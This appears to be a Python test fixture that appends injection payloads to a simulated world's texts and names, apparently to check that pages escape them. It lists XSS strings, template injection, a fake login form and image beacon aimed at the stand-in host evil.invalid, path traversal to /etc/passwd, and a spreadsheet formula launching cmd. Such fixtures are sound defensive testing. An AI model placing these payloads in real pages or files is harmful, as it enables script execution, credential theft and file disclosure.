"""Strings that try to do something where a page shows them, and how they get into a world's texts and names."""

from dataclasses import dataclass

MARK = "window.attacked"
"""Every script of an attack sets it: a page on which it is defined was harmed."""
HOST = "evil.invalid"
"""Every address of an attack is on this host: a page that asks for it was harmed."""

ATTACKS = (
    f"<script>{MARK}='script'</script>", f"</script><script>{MARK}='closed script'</script>",
    f"<!--<script>{MARK}='script in a comment'", f"--><script>{MARK}='closed comment'</script>",
    f"<img src=x onerror=\"{MARK}='img'\">", f"<svg onload=\"{MARK}='svg'\"></svg>",
    f'"><b onmouseover="{MARK}=\'hover\'">over here</b>', f"' onfocus={MARK}='focus' autofocus tabindex=0 x='",
    f"<iframe srcdoc=\"<script>parent.{MARK[7:]}='frame'</script>\"></iframe>",
    f"<details open ontoggle={MARK}='toggle'>closed",
    f'<base href="http://{HOST}/"><meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f"</style><style>*{{display:none}}@import 'http://{HOST}/x.css';</style>",
    f"<form action=http://{HOST}/><input name=password><button>Log in</button></form>",
    f"</textarea></title></template><math><mtext><style><img src=x onerror={MARK}='math'>",
    f"[read more](javascript:{MARK}='link')", f"[the file](data:text/html,<script>{MARK}='data'</script>)",
    f"[a tab&#x3a;](java&#x09;script:{MARK}='tab')", f"<javascript:{MARK}='autolink'>",
    f"![a chart](http://{HOST}/x.png)", f"[reference]\n\n[reference]: vbscript:{MARK}='reference'",
    f"{{{{7*7}}}} {{% raw %}} ${{7*7}} {{{{constructor.constructor(\"{MARK}='template'\")()}}}} #{{7*7}}",
    f"';{MARK}='quote';//\";{MARK}='quotes';//`;{MARK}='backquote';//${{{MARK}='dollar'}}\\",
    f"line\u2028{MARK}='line separator'\u2029{MARK}='paragraph separator'",
    f"]]><![CDATA[<script>{MARK}='cdata'</script>", "\u202egpj.txet\u202c after",
    "../../../../etc/passwd\\..\\..\\con.js?x=1#%2e%2e%2f", "unbroken" * 50, "=cmd|'/c calc'!A1", "__proto__",
    "bell\x07 escape\x1b[31m red\x1b[0m zero\u200bwidth \ufeff\U0001f469\u200d\U0001f52c",
)  # fmt: skip
"""Scripts in elements, attributes, comments and links, templates, addresses, and text that only looks odd."""

_NAMES = (28, 0, 25, 6, 26, 24, 27, 1, 22, 20, 5, 21)
"""Places in ATTACKS of those that names get first: each of another kind."""


@dataclass
class Taint:
    """Puts the next attack behind every text that it is given; without `is_hostile` texts stay as they are."""

    is_hostile: bool
    n_given: int = 0
    n_named: int = 0

    def __call__(self, text: str) -> str:
        """A text with the next attack behind it."""
        if not self.is_hostile:
            return text
        self.n_given += 1
        return f"{text} {ATTACKS[self.n_given % len(ATTACKS)]}"

    def name(self, name: str) -> str:
        """A name with an attack in front of it; the first ones get attacks of different kinds."""
        if not self.is_hostile:
            return name
        self.n_named += 1
        attack = ATTACKS[_NAMES[(self.n_named - 1) % len(_NAMES)]]
        return attack if attack == "__proto__" and self.n_named == 1 else f"{attack}{name}"
